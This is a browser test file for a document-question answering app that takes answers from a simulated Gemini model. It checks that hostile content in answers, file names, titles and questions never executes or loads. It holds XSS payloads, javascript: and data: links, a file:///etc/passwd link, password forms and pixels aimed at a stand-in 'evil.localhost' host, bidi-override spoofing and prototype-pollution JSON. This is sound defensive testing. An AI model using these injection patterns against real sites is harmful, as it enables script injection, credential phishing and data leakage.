import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, expect, it } from '@jest/globals';
import { GeminiSimulator } from '../simulators/gemini.js';
import { describeInBrowser } from './describe-in-browser.js';
import { Elsewhere } from './elsewhere.js';
import { MeshInBrowser } from './mesh-in-browser.js';
import type { Visit } from './visit.js';

const QUESTION = 'How does the zebra protocol rotate its keys?';
const SCRIPT = '<script>window.hacked=1</script><img src=x onerror="window.hacked=1">';

let gemini: GeminiSimulator;
let elsewhere: Elsewhere;
let remote: string;
let documents: string;

/** Documents whose names, titles and texts are attacks; each answers the question. */
function writeDocuments(folder: string): void {
  const text = 'The zebra protocol rotates its keys each night';
  const documents: Record<string, string> = {
    [`<img src=x onerror=window.hacked=1>.md`]: `# ${SCRIPT} zebra protocol\n\n${text}, ${SCRIPT} and at dawn.\n`,
    'javascript:window.hacked=1.md': `# [zebra](javascript:window.hacked=1)\n\n${text}. ![x](${remote}/title.png)\n`,
    '"><svg onload=window.hacked=1>.txt': `${text}.\n"><svg onload=window.hacked=1>\n`,
    'zebra\u202egnp.exe.md': `# zebra \u202e keys \u2066\n\n${text} \u202e backwards.\n`,
    'zebra.html': `<title>zebra &lt;script&gt;window.hacked=1&lt;/script&gt;</title><style>*{display:none}</style>
      <script>window.hacked=1</script><svg onload="window.hacked=1"><script>window.hacked=1</script></svg>
      <p onclick="window.hacked=1">${text} &lt;img src=x onerror=window.hacked=1&gt;.</p><iframe src="${remote}/frame"></iframe>`,
    'zebra.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"><text>${text}</text></svg>`,
  };
  for (const [name, content] of Object.entries(documents)) {
    writeFileSync(join(folder, name), content);
  }
}

/** What turns the reading direction round. */
const TURNS = /[\u202a-\u202e\u2066-\u2069]/;

/** Texts of an answer; `REMOTE` is a server elsewhere. */
const ANSWERS: readonly (readonly [name: string, answer: string])[] = [
  ['script', `Each night ${SCRIPT} [1].`],
  ['script as a block', `${SCRIPT}\n\nEach night [1].`],
  ['a link that is a script', 'Each [night](javascript:window.hacked=1) [1].'],
  ['a link that is a script, spelt otherwise', 'Each [night](JaVaScRiPt&#58;window.hacked=1) [1].'],
  ['a link that is a script in an autolink', 'Each <javascript:window.hacked=1> night [1].'],
  [
    'a link that is a document',
    'Each [night](data:text/html,<script>window.hacked=1</script>) [1].',
  ],
  ['a link to a file', 'Each [night](file:///etc/passwd) [1].'],
  ['a link of the mesh itself', 'Each [night](/sign-in?to=/) [1].'],
  ['a picture from elsewhere', 'Each ![night](REMOTE/pixel.png) night [1].'],
  [
    'a picture in a link',
    'Each [![night](REMOTE/pixel.png)](javascript:window.hacked=1) night [1].',
  ],
  ['a picture by reference', 'Each ![night][p] night [1].\n\n[p]: REMOTE/pixel.png'],
  ['SVG', 'Each <svg onload="window.hacked=1"><image href="REMOTE/pixel.png"/></svg> night [1].'],
  [
    'MathML',
    'Each <math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math> [1].',
  ],
  ['styles', '<style>main{display:none} @import "REMOTE/style.css";</style>\n\nEach night [1].'],
  [
    'a styled element',
    '<div style="position:fixed;inset:0;background:url(REMOTE/pixel.png)">x</div>\n\nEach night [1].',
  ],
  ['a form', '<form action="REMOTE/form"><input name=password></form>\n\nEach night [1].'],
  ['a frame', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>\n\nEach night [1].'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=REMOTE/away">\n\nEach night [1].'],
  ['another base', '<base href="REMOTE/">\n\nEach night [1].'],
  ['names of the page', '<a id="root" name="location"></a>\n\n# root\n\nEach night [1].'],
  ['a citation that is a link elsewhere', 'Each night [1].\n\n[1]: REMOTE/phish'],
  ['a reading direction', 'Each \u202ethgin\u202c and \u2066isolated [1].'],
  ['a nested quotation', `${'> '.repeat(2000)}Each night [1].`],
  ['nested brackets', `${'['.repeat(5000)}Each night [1].`],
  ['many emphases', `${'*a _b '.repeat(3000)} Each night [1].`],
  ['many citations', `Each night ${'[1]'.repeat(3000)}.`],
  [
    'code that looks like a page',
    '```html\n</code></pre><script>window.hacked=1</script>\n```\n\nEach night [1].',
  ],
];

/** Nothing ran, nothing was loaded, nothing leads anywhere that is not said. */
async function expectHarmless(visit: Visit, name = ''): Promise<void> {
  const { page } = visit;
  expect([name, await page.evaluate('window.hacked')]).toEqual([name, undefined]);
  expect([name, elsewhere.requests.map(({ url }) => url)]).toEqual([name, []]);
  const strange = await page
    .locator(
      'main :is(script, iframe, object, embed, form[action], base, meta, link, style, video, audio, input[type=image], img, [onclick], [onload], [onerror])',
    )
    .count();
  expect([name, strange]).toEqual([name, 0]);
  const hrefs = await page.evaluate<string[]>(
    "[...document.querySelectorAll('a[href]')].map(({ href }) => href)",
  );
  for (const href of hrefs) expect([name, href]).toEqual([name, expect.stringMatching(/^https?:/)]);
  // What turns the reading direction round is shown, not obeyed.
  const text = await page.locator('main').innerText();
  expect([name, text]).toEqual([name, expect.not.stringMatching(TURNS)]);
}

describeInBrowser(
  'hostile content',
  (mesh) => {
    beforeEach(() => {
      gemini.pieceLength = 24;
      elsewhere.requests.length = 0;
    });
    afterAll(async () => {
      await Promise.all([gemini?.close(), elsewhere?.close()]);
      rmSync(documents, { recursive: true, force: true });
    });

    async function asked(answer: string, question = QUESTION): Promise<Visit> {
      gemini.answer = () => `ANSWERED: yes\n\n${answer}`;
      const visit = await mesh().visitAs('analyst');
      visit.page.on('dialog', () => visit.problems.push('a dialog'));
      await visit.ask(question);
      return visit;
    }

    it('does nothing in an answer', async () => {
      const visit = await mesh().visitAs('analyst');
      visit.page.on('dialog', () => visit.problems.push('a dialog'));
      visit.tolerateStatus(502);
      const refused: string[] = [];
      for (const [name, answer] of ANSWERS) {
        gemini.answer = () => `ANSWERED: yes\n\n${answer.replaceAll('REMOTE', remote)}`;
        await visit.open('/');
        await visit.ask(QUESTION);
        await visit.verdict.or(visit.alert).first().waitFor();
        if ((await visit.verdict.count()) === 0) refused.push(name);
        await expectHarmless(visit, name);
        // Whatever leads elsewhere says where to.
        const links = await visit.page.locator(`a[href^="${remote}"]`).count();
        const places = await visit.page.getByText(`(${new URL(remote).host})`).count();
        expect([name, places]).toEqual([name, links]);
      }
      // All others are shown, as the text that they are.
      expect(refused).toEqual([]);
    }, 240_000);

    it('does nothing in documents: name, title, passage', async () => {
      const visit = await asked('Each night [1] [2] [3] [4] [5] [6].');
      await visit.verdict.waitFor();
      await expectHarmless(visit);
      expect(await visit.page.locator('main').innerText()).toContain('onerror');
      await visit.open('/');
      await visit.question.waitFor();
      await expectHarmless(visit);
    });

    it.each([
      `${QUESTION} ${SCRIPT}`,
      `${QUESTION} ![x](javascript:window.hacked=1) \u202e reversed`,
      `__proto__ constructor ${QUESTION}`,
    ])('does nothing in a question: %s', async (question) => {
      const visit = await asked('Each night [1].', question);
      await visit.verdict.or(visit.alert).first().waitFor();
      await expectHarmless(visit);
      expect(await visit.page.title()).not.toMatch(TURNS);
    });

    it('is bounded: a huge answer is refused, and the page goes on', async () => {
      gemini.pieceLength = 100_000;
      const visit = await asked(`Each night [1]. ${'x'.repeat(3_000_000)}`);
      await visit.alert.waitFor();
      await expectHarmless(visit);
      gemini.answer = () => 'ANSWERED: yes\n\nEach night [1].';
      await visit.open('/');
      await visit.ask(QUESTION);
      await visit.verdict.waitFor();
      visit.tolerateStatus(502, 503);
    });

    it('cannot name a member that every object has', async () => {
      const visit = await asked('Each night [1].');
      await visit.verdict.waitFor();
      const [good] = mesh().proxy.events.filter(({ type }) => type === 'done');
      for (const name of ['__proto__', 'constructor', 'toString']) {
        const path = join(mesh().sandbox.folder, 'names.json');
        writeFileSync(path, good!.data.replace('{', `{"${name}":{"answer":"x","admin":true},`));
        await visit.open('/verify');
        await visit.drop(path);
        await visit.alert.waitFor();
        expect(await visit.alert.innerText()).toMatch(/ERR_ANSWER_/);
        expect(await visit.page.evaluate('({}).admin')).toBeUndefined();
      }
    });
  },
  async () => {
    elsewhere = await Elsewhere.start();
    remote = elsewhere.at('evil.localhost');
    gemini = await GeminiSimulator.start();
    documents = mkdtempSync(join(tmpdir(), 'mesh-hostile-'));
    writeDocuments(documents);
    return MeshInBrowser.start(
      {
        MESH_DOCUMENTS: documents,
        MESH_MODEL: 'gemini',
        MESH_GEMINI_URL: gemini.baseUrl,
        MESH_RESILIENCE_GEMINI_BREAKER_VOLUME_THRESHOLD: '1000',
        MESH_RATE_LIMIT_QUESTIONS: '1000',
        MESH_RATE_LIMIT_SIGN_IN: '1000',
      },
      async (sandbox) => {
        mkdirSync(join(sandbox.state, 'secrets'), { recursive: true, mode: 0o700 });
        writeFileSync(join(sandbox.state, 'secrets/gemini'), `${gemini.key}\n`, { mode: 0o600 });
      },
    );
  },
);
